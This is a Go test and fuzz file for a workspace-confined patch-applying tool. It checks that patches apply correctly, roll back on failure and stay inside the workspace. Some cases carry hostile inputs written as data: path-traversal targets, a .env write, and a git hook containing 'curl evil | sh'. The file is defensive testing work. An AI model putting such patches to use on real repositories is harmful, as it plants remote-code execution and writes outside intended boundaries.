package tools

import (
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/wardenhq/warden/internal/config"
	"github.com/wardenhq/warden/internal/workspace"
)

const twoFiles = `diff --git a/a.txt b/a.txt
--- a/a.txt
+++ b/a.txt
@@ -1,3 +1,3 @@
 one
-two
+TWO
 three
diff --git a/b.txt b/b.txt
--- a/b.txt
+++ b/b.txt
@@ -1,2 +1,2 @@
 red
-green
+GREEN
`

func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			b, _ := os.ReadFile(p)
			rel, _ := filepath.Rel(dir, p)
			out[filepath.ToSlash(rel)] = string(b)
		}
		return nil
	})
	return out
}

func TestApplyPatch(t *testing.T) {
	t.Parallel()
	base := map[string]string{"a.txt": "one\ntwo\nthree\n", "b.txt": "red\ngreen\n", "old.txt": "bye\n"}
	tests := []struct {
		name        string
		patch       string
		allowDelete bool
		want        map[string]string // changed files; nil means nothing may change
		wantErr     string
	}{
		{"two files", twoFiles, false, map[string]string{"a.txt": "one\nTWO\nthree\n", "b.txt": "red\nGREEN\n"}, ""},
		{"traditional headers", "--- a.txt\n+++ a.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n", false, map[string]string{"a.txt": "one\n2\nthree\n"}, ""},
		{"second file fails: nothing changes", strings.Replace(twoFiles, " red\n-green", " red\n-blue", 1), false, nil, "does not apply to b.txt"},
		{"new file", "diff --git a/n/new.txt b/n/new.txt\nnew file mode 100644\n--- /dev/null\n+++ b/n/new.txt\n@@ -0,0 +1,2 @@\n+x\n+y\n", false, map[string]string{"n/new.txt": "x\ny\n"}, ""},
		{"new file that exists", "diff --git a/a.txt b/a.txt\nnew file mode 100644\n--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1 @@\n+x\n", false, nil, "already exists"},
		{"delete refused", "diff --git a/old.txt b/old.txt\ndeleted file mode 100644\n--- a/old.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n", false, nil, "deleting files is disabled"},
		{"delete allowed", "diff --git a/old.txt b/old.txt\ndeleted file mode 100644\n--- a/old.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n", true, map[string]string{"old.txt": ""}, ""},
		{"rename", "diff --git a/old.txt b/renamed.txt\nsimilarity index 100%\nrename from old.txt\nrename to renamed.txt\n", false, map[string]string{"old.txt": "", "renamed.txt": "bye\n"}, ""},
		{"escape in target", "--- a/a.txt\n+++ b/../../../tmp/pwned\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n", false, nil, "escapes the workspace"},
		{"masked target", "diff --git a/.env b/.env\nnew file mode 100644\n--- /dev/null\n+++ b/.env\n@@ -0,0 +1 @@\n+TOKEN=x\n", false, nil, "is masked"},
		{"protected target", "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n", false, nil, "is protected"},
		{"not a patch", "hello", false, nil, "changes no file"},
		{"missing file", "--- a/nope.txt\n+++ b/nope.txt\n@@ -1 +1 @@\n-a\n+b\n", false, nil, "does not exist"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			env, dir := newEnv(t, base)
			env.Config.Workspace.AllowDelete = tt.allowDelete
			_, err := call(t, ApplyPatch(), env, map[string]any{"patch": tt.patch})
			got := snapshot(t, dir)
			want := map[string]string{}
			for k, v := range base {
				want[k] = v
			}
			for k, v := range tt.want {
				if v == "" {
					delete(want, k)
				} else {
					want[k] = v
				}
			}
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("err = %v, want %q", err, tt.wantErr)
				}
			} else if err != nil {
				t.Fatal(err)
			}
			if len(got) != len(want) {
				t.Fatalf("files = %v, want %v", got, want)
			}
			for k, v := range want {
				if got[k] != v {
					t.Errorf("%s = %q, want %q", k, got[k], v)
				}
			}
		})
	}
	if _, err := os.Stat("/tmp/pwned"); err == nil {
		t.Fatal("a patch wrote outside the workspace")
	}
}

// failingFS fails the nth write, to show a patch that fails midway is undone.
type failingFS struct {
	workspace.FS
	writes, failAt int
}

func (f *failingFS) WriteFile(name string, data []byte, perm fs.FileMode) error {
	f.writes++
	if f.writes == f.failAt {
		return errors.New("disk full")
	}
	return f.FS.WriteFile(name, data, perm)
}

func TestApplyPatchRollsBack(t *testing.T) {
	t.Parallel()
	env, dir := newEnv(t, map[string]string{"a.txt": "one\ntwo\nthree\n", "b.txt": "red\ngreen\n"})
	before := snapshot(t, dir)
	env.FS = &failingFS{FS: env.FS, failAt: 2}
	_, err := call(t, ApplyPatch(), env, map[string]any{"patch": twoFiles})
	if err == nil || !strings.Contains(err.Error(), "no file was changed") {
		t.Fatalf("err = %v", err)
	}
	if after := snapshot(t, dir); after["a.txt"] != before["a.txt"] || after["b.txt"] != before["b.txt"] {
		t.Fatalf("workspace changed by a failed patch: %v", after)
	}
}

func FuzzApplyPatch(f *testing.F) {
	f.Add(twoFiles)
	f.Add("--- a.txt\n+++ a.txt\n@@ -1 +1 @@\n-one\n+1\n")
	f.Add("diff --git a/x b/../y\nrename from x\nrename to ../y\n")
	f.Add("--- /dev/null\n+++ b/.env\n@@ -0,0 +1 @@\n+x\n")
	f.Add("--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+x\n")
	f.Add("--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+x\n")
	f.Add("--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n--- one\n+++ two\n three\n")
	f.Add("--- old/a.txt\t2024-05-01 10:00:00 +0200\n+++ new/a.txt\t2024-05-01 10:00:00 +0200\n@@ -1 +1 @@\n-one\n+1\n")
	f.Add("--- \"a/a.txt\"\n+++ \"b/a.txt\"\n@@ -1 +1 @@\n-one\n+1\n")
	f.Fuzz(func(t *testing.T, patch string) {
		parent := t.TempDir()
		outside := filepath.Join(parent, "outside.txt")
		os.WriteFile(outside, []byte("secret\n"), 0o644)
		dir := filepath.Join(parent, "ws")
		os.Mkdir(dir, 0o755)
		os.WriteFile(filepath.Join(dir, "a.txt"), []byte("one\ntwo\nthree\n"), 0o644)
		root, err := workspace.Open(dir, nil)
		if err != nil {
			t.Fatal(err)
		}
		defer root.Close()
		env := &Env{FS: root, Root: root, Config: configWithDeletes()}
		b, _ := json.Marshal(map[string]string{"patch": patch})
		_, gerr := ApplyPatch().Guard(env, b)
		var rerr error
		if gerr == nil {
			_, rerr = ApplyPatch().Run(t.Context(), env, b)
		}
		ents, _ := os.ReadDir(parent)
		if len(ents) != 2 {
			t.Fatalf("patch %q created something outside the workspace: %v", patch, ents)
		}
		if b, _ := os.ReadFile(outside); string(b) != "secret\n" {
			t.Fatalf("patch %q changed a file outside the workspace", patch)
		}
		if gerr != nil || rerr != nil {
			if b, _ := os.ReadFile(filepath.Join(dir, "a.txt")); string(b) != "one\ntwo\nthree\n" {
				t.Fatalf("failed patch %q changed a.txt", patch)
			}
		}
	})
}

func configWithDeletes() *config.Config {
	c := config.Default()
	c.Workspace.AllowDelete = true
	return c
}
